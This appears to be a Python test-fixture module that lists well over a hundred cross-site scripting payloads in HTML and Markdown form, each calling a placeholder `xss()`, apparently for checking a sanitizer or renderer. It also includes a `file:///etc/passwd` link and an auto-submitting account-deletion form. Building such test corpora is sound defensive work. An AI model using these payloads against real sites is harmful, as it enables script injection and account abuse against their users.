"""Texts that try to run something in a reader's browser: each calls `xss()` where it succeeds."""

RAW = (
    r"""
<script>xss()</script>
<ScRiPt>xss()</sCrIpT>
<script/src=data:,xss()></script>
<script src="data:text/javascript,xss()"></script>
<script type="module">xss()</script>
<script>xss()//
<scr<script>ipt>xss()</scr</script>ipt>
<<script>xss();//<</script>
<script
>xss()</script
>
<img src=x onerror=xss()>
<img src=x onerror="xss()">
<img src='x' onerror='xss()'>
<img/src=x/onerror=xss()>
<img src=x:x onerror=xss()//
<img """
    + '"""'
    + r"""><script>xss()</script>">
<img src onerror=xss()>
<img srcset=x onerror=xss()>
<image src=x onerror=xss()>
<IMG SRC="jav&#x09;ascript:xss()">
<img dynsrc="javascript:xss()">
<svg onload=xss()>
<svg/onload=xss()>
<svg><script>xss()</script></svg>
<svg><script href="data:,xss()"/></svg>
<svg><animate onbegin=xss() attributeName=x dur=1s>
<svg><a xlink:href="javascript:xss()"><text x=20 y=20>x</text></a>
<svg><set attributeName="onload" to="xss()"/></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.xss()</script>"></foreignObject></svg>
<svg><style><img src=x onerror=xss()></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=xss()>">
<math><mtext><table><mglyph><style><img src=x onerror=xss()></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=xss()></annotation-xml></math>
<math href="javascript:xss()">x</math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:xss()">x</maction></math>
<iframe src="javascript:xss()"></iframe>
<iframe srcdoc="<script>parent.xss()</script>"></iframe>
<iframe onload=xss()></iframe>
<object data="javascript:xss()"></object>
<object data="data:text/html,<script>parent.xss()</script>"></object>
<embed src="javascript:xss()">
<applet code="x" onerror=xss()></applet>
<base href="javascript:xss()//">
<link rel=stylesheet href="javascript:xss()">
<link rel=preload as=script href=x onerror=xss()>
<meta http-equiv="refresh" content="0;url=javascript:xss()">
<meta http-equiv=refresh content="0;url=data:text/html,<script>xss()</script>">
<style>@import 'javascript:xss()';</style>
<style>body{background:url("javascript:xss()")}</style>
<style onload=xss()></style>
<p style="background:url(javascript:xss())">x</p>
<div style="width:expression(xss())">x</div>
<div style="animation-name:x" onanimationstart=xss()></div>
<body onload=xss()>
<body onpageshow=xss()>
<html onmouseover=xss()>
<input autofocus onfocus=xss()>
<input type=image src=x onerror=xss()>
<select autofocus onfocus=xss()></select>
<textarea autofocus onfocus=xss()></textarea>
<keygen autofocus onfocus=xss()>
<button autofocus onfocus=xss()>x</button>
<button formaction="javascript:xss()">x</button>
<form action="javascript:xss()"><button>x</button></form>
<form><button formaction=javascript:xss()>x</form>
<isindex action="javascript:xss()" type=submit>
<video src=x onerror=xss()></video>
<video><source onerror=xss()></video>
<video poster="javascript:xss()"></video>
<audio src=x onerror=xss()></audio>
<marquee onstart=xss()>x</marquee>
<details open ontoggle=xss()>x</details>
<dialog open onclose=xss()>x</dialog>
<a href="javascript:xss()">x</a>
<a href="JaVaScRiPt:xss()">x</a>
<a href=" javascript:xss()">x</a>
<a href="java&#10;script:xss()">x</a>
<a href="&#106;avascript:xss()">x</a>
<a href="data:text/html,<script>xss()</script>">x</a>
<a href="vbscript:xss()">x</a>
<a onclick=xss() href=#>x</a>
<a href="#" onfocus=xss() autofocus>x</a>
<x onclick=xss() contenteditable tabindex=1 autofocus onfocus=xss()>x</x>
<xss id=x tabindex=1 onfocus=xss()></xss>
<noscript><p title="</noscript><img src=x onerror=xss()>"></noscript>
<template><script>xss()</script></template>
<title><img src=x onerror=xss()></title>
<textarea><img src=x onerror=xss()></textarea></textarea><img src=x onerror=xss()>
<plaintext><img src=x onerror=xss()>
<xmp><img src=x onerror=xss()></xmp></xmp><img src=x onerror=xss()>
<listing>&lt;img onerror=xss() src=x&gt;</listing>
<!--><img src=x onerror=xss()>-->
<!-- --!><img src=x onerror=xss()>
<![CDATA[<img src=x onerror=xss()>]]>
<?xml version="1.0"?><img src=x onerror=xss()>
<!DOCTYPE html><img src=x onerror=xss()>
<comment><img src="</comment><img src=x onerror=xss()//">
<table background="javascript:xss()"><tr><td>x</table>
<table><td><img src=x onerror=xss()></td></table>
<frameset onload=xss()><frame src="javascript:xss()"></frameset>
<slot onslotchange=xss()><p slot=x>x</p></slot>
<custom-element onclick=xss()>x</custom-element>
<p hx-on:load="xss()" hx-get="/" hx-trigger="load" data-hx-on:load="xss()">x</p>
<div hx-get="javascript:xss()" hx-trigger="load">x</div>
<form hx-post="/account/delete/" hx-trigger="load"></form>
</div></section></main><script>xss()</script>
"><script>xss()</script>
'><script>xss()</script>
</textarea><script>xss()</script>
</title><script>xss()</script>
&lt;script&gt;xss()&lt;/script&gt;
&#60;img src=x onerror=xss()&#62;
\x3cscript\x3exss()\x3c/script\x3e
%3Cscript%3Exss()%3C/script%3E
＜script＞xss()＜/script＞
{{ 7*7 }}{% load x %}<script>xss()</script>
${xss()} #{xss()} <%= xss() %>
"""
)

MARKDOWN = [
    "[x](javascript:xss())",
    "[x](JAVASCRIPT:xss())",
    "[x]( javascript:xss())",
    "[x](java\tscript:xss())",
    "[x](java&#10;script:xss())",
    "[x](&#x6A;avascript:xss())",
    "[x](javascript&colon;xss())",
    "[x](<javascript:xss()>)",
    "[x](\x01javascript:xss())",
    "[x](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=xss()>)",
    "[x](vbscript:xss())",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x/y)",
    "[x](view-source:javascript:xss())",
    '[x](https://a.example "onmouseover=xss()")',
    "[x](https://a.example 'x\" onmouseover=\"xss()')",
    '[x](https://a.example"onmouseover="xss())',
    "[x](https://a.example/`onmouseover=xss()`)",
    "[x](https://a.example/<img src=x onerror=xss()>)",
    "[<img src=x onerror=xss()>](https://a.example)",
    "[x][1]\n\n[1]: javascript:xss()",
    "[x][1]\n\n[1]: https://a.example \"x' onmouseover='xss()\"",
    "![x](javascript:xss())",
    "![x](x){onerror=xss()}",
    '![x" onerror="xss()](x)',
    '![x](https://a.example/x.png"onerror="xss())',
    "<javascript:xss()>",
    '<https://a.example/"onmouseover="xss()>',
    "<https://a.example/'><img src=x onerror=xss()>>",
    "`<script>xss()</script>`",
    '``` "><script>xss()</script>\nx\n```',
    "```<img src=x onerror=xss()>\nx\n```",
    "```html\n</code></pre><script>xss()</script>\n```",
    "    <script>xss()</script>",
    "> <script>xss()</script>",
    "* <script>xss()</script>",
    "1. <img src=x onerror=xss()>",
    "# <script>xss()</script>",
    "<script>\n\nxss()\n\n</script>",
    "<div>\n\n**<img src=x onerror=xss()>**\n\n</div>",
    "**<b onclick=xss()>x**</b>",
    '*<a href="*" onclick=xss()>x</a>',
    "~~<s onclick=xss()>~~",
    "| <script>xss()</script> |\n|---|\n| <img src=x onerror=xss()> |",
    "[^1]\n\n[^1]: <script>xss()</script>",
    "{: onclick=xss() }",
    "x {#a onclick=xss()}",
    "<a\nhref=javascript:xss()\n>x</a>",
    "&#x3C;img src=x onerror=xss()&#x3E;",
    "\\<script>xss()\\</script>",
    "<\\script>xss()</script>",
    "<scr\u200bipt>xss()</script>",
    "<img src=x one\u202error=xss()>",
    "<\u0000script>xss()</script>",
    "[x](\u2028javascript:xss())",
    "<a href='java\u0000script:xss()'>x</a>",
    "[a](x)[b](javascript:xss()//)" * 3,
    "[[x](javascript:xss())](https://a.example)",
    "***" * 50 + "<script>xss()</script>",
    "> " * 60 + "<img src=x onerror=xss()>",
]

PAYLOADS = [line for line in RAW.strip().split("\n") if line] + MARKDOWN
